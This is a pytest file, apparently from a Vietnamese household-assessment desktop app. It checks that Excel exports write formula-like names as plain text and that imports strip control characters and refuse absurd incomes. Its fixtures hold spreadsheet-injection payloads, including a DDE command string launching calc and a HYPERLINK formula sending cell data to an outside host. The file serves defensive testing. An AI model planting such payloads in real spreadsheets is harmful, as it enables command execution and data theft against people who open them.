"""Text from outside never becomes a formula or breaks an export (issue 9, finding 6).

Names imported as ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0`` were written by ``export-excel``
and the annex XLSX as live formulas, after which the app's own export no longer re-imported;
``_x0000_``-style escapes became NUL/ESC characters in names and every export crashed.
"""

from __future__ import annotations

import io
import json

import openpyxl
import pytest

from gnbv_desktop.core.household import Assessment, Household
from gnbv_desktop.io.summary_xlsx import summary_workbook
from gnbv_desktop.store.database import open_database
from gnbv_desktop.store.households import save_household
from gnbv_desktop.store.villages import list_villages
from tests.hostile.kit import assert_refused, canonical_dump, commune_template, copy_of, run, run_limited
from tests.io.workbooks import simple_list

INJECTIONS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1 Nguyễn Văn Cộng",
    "-2+3 Trần Thị Trừ",
    "@SUM(A1:A9) Lê Văn A",
    "=1+1",
]


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return commune_template(tmp_path_factory.mktemp("out"))


def _hostile_commune(template, folder) -> tuple:
    db_path = copy_of(template, folder / "xa.sqlite3")
    db = open_database(db_path)
    village = list_villages(db)[0].id
    for n, name in enumerate(INJECTIONS):
        save_household(db, Household(head_name=name, village_id=village, address="=A1\x00\x1b", phone="+84 912",
                                     note="@ghi\x0b chú\n=2+2"),
                       Assessment(year=2026, standard_id="nd07-2021", area="rural", income=1_000_000 + n))
    db.close()
    return db_path


def _cells(path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_export_writes_formula_like_text_as_text_and_re_imports(template, tmp_path, capsys):
    db_path = _hostile_commune(template, tmp_path)
    out = tmp_path / "ds.xlsx"
    code, _o, err = run(capsys, db_path, "export-excel", str(out), "--year", "2026")
    assert code == 0, err
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert set(INJECTIONS) <= texts and "=A1" in texts  # the address lost its NUL and ESC when saved
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")
    fresh = tmp_path / "moi.sqlite3"
    open_database(fresh).close()  # a new, empty commune file (only init/demo/sync-import create one)
    code, out_text, err = run(capsys, fresh, "import-excel", str(out), "--year", "2026")
    assert code == 0, err + out_text
    code, listed, _ = run(capsys, fresh, "list", "--year", "2026", "--json")
    assert set(INJECTIONS) <= {h["head_name"] for h in json.loads(listed)}


def test_annex_xlsx_writes_formula_like_text_as_text(template, tmp_path, capsys):
    db_path = _hostile_commune(template, tmp_path)
    out = tmp_path / "phu-luc.xlsx"
    code, _o, err = run(capsys, db_path, "annex", str(out), "--year", "2026")
    assert code == 0, err
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert set(INJECTIONS) <= {c.value for c in cells}


def test_summary_workbook_writes_formula_like_text_as_text():
    stats = {"year": 2026, "households": 1, "members": 3, "by_classification": {"poor": 1},
             "by_village": {"=cmd|' /C calc'!A0": {"households": 1, "poor": 1}, "Thôn\x00 ESC\x1b": {"households": 0}}}
    blob = summary_workbook(stats, "=HYPERLINK(\"x\")", "01/12/2026")
    cells = _cells(io.BytesIO(blob))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "=cmd|' /C calc'!A0" in {c.value for c in cells} and "Thôn ESC" in {c.value for c in cells}


ESCAPED = ["Nguy_x001B_n V_x0000_ăn A", "Tr_x0007_ần\u202e Thị B", "Lê _x000B_Văn C"]


def test_escaped_control_characters_in_a_workbook_are_removed_and_exports_still_work(template, tmp_path, capsys):
    db_path = copy_of(template, tmp_path / "xa.sqlite3")
    rows = [[i + 1, name, 1970, None, "Thôn 1", "1.000.000", "Nghèo"] for i, name in enumerate(ESCAPED)]
    code, out, err = run(capsys, db_path, "import-excel", str(simple_list(tmp_path / "ds.xlsx", rows)), "--year", "2026",
                         "--skip-invalid")
    assert code == 0, err + out
    db = open_database(db_path)
    names = [n for (n,) in db.execute("SELECT head_name FROM households WHERE head_name LIKE '%Văn C' "
                                      "OR head_name LIKE '%Thị B' OR head_name LIKE 'Nguy%n%'")]
    db.close()
    assert names and all(not any(ord(ch) < 32 for ch in n) for n in names), names
    code, _o, err = run(capsys, db_path, "export-excel", str(tmp_path / "out.xlsx"), "--year", "2026")
    assert code == 0, err
    code, _o, err = run(capsys, db_path, "annex", str(tmp_path / "pl.xlsx"), "--year", "2026")
    assert code == 0, err


def test_an_escaped_control_character_between_words_becomes_a_space(template, tmp_path, capsys):
    """Excel writes a control character as ``_x0007_``; between two words it must not join them."""
    db_path = copy_of(template, tmp_path / "xa.sqlite3")
    rows = [[1, "Nguyễn_x0007_Văn An", 1970, None, "Thôn 1", "1.000.000", "Nghèo"],
            [2, "Lê _x000B_ Thị_x0001__x0002_Bình", 1971, None, "Thôn 1", "1.000.000", "Nghèo"],
            [3, "_x0007_Đinh Văn Cường_x001B_", 1972, None, "Thôn 1", "1.000.000", "Nghèo"]]
    code, out, err = run(capsys, db_path, "import-excel", str(simple_list(tmp_path / "ds.xlsx", rows)), "--year", "2026")
    assert code == 0, err + out
    db = open_database(db_path)
    names = {n for (n,) in db.execute("SELECT head_name FROM households")}
    db.close()
    assert {"Nguyễn Văn An", "Lê Thị Bình", "Đinh Văn Cường"} <= names
    assert not {"NguyễnVăn An", "Lê ThịBình"} & names


HUGE_INCOMES = [10**20, "100000000000000000000", 1e300, "1e300", "Infinity", "NaN", 2**63, "9.223.372.036.854.775.808"]


@pytest.mark.parametrize("income", HUGE_INCOMES, ids=[str(i)[:24] for i in HUGE_INCOMES])
def test_an_impossible_income_in_excel_is_refused_on_its_row(income, template, tmp_path, capsys):
    db_path = copy_of(template, tmp_path / "xa.sqlite3")
    path = simple_list(tmp_path / "ds.xlsx", [[1, "Hà Văn Giàu", 1970, None, "Thôn 1", income, "Nghèo"]])
    before = canonical_dump(db_path)
    err = assert_refused(capsys, db_path, "import-excel", str(path), "--year", "2026", says="chưa nhập gì")
    assert "OverflowError" not in err
    code, out, _ = run(capsys, db_path, "import-excel", str(path), "--year", "2026", "--dry-run")
    assert "Dòng 2, cột F" in out and ("lớn quá mức" in out or "không phải một số" in out or "Không đọc được" in out)
    assert canonical_dump(db_path) == before


def test_an_income_of_10_to_the_20_is_refused_within_1_gib_and_60_s(template, tmp_path):
    db_path = copy_of(template, tmp_path / "xa.sqlite3")
    path = simple_list(tmp_path / "ds.xlsx", [[1, "Hà Văn Giàu", 1970, None, "Thôn 1", 10**20, "Nghèo"]])
    before = canonical_dump(db_path)
    code, out, err = run_limited(db_path, "import-excel", str(path), "--year", "2026")
    assert code == 1 and "lớn quá mức" in out and "chưa nhập gì" in err and "Traceback" not in err
    assert canonical_dump(db_path) == before
